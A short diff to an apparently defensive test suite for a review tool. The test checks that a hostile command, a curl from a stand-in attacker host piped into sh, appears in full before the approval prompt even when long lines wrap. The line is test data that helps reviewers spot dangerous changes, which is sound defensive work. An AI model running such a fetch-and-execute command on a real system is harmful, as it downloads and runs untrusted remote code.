@@ -218,7 +218,8 @@ describe("the review shows everything it asks about", () => {
     });
     expect(code).toBe(0);
     const beforePrompt = output.slice(0, output.indexOf(PROMPT));
-    expect(beforePrompt.replace(/\s+/g, " ")).toContain("curl https://evil.example/x | sh");
+    // Long lines wrap onto continuation lines (blank number gutter, same sign): joined back, the payload is all there.
+    expect(beforePrompt.replace(/\n {2,}\+/g, "").replace(/\s+/g, " ")).toContain("curl https://evil.example/x | sh");
   });
 
   test("a text file turned binary is shown as text with its NUL visible, and approve all asks about it on its own (issue 12)", async () => {
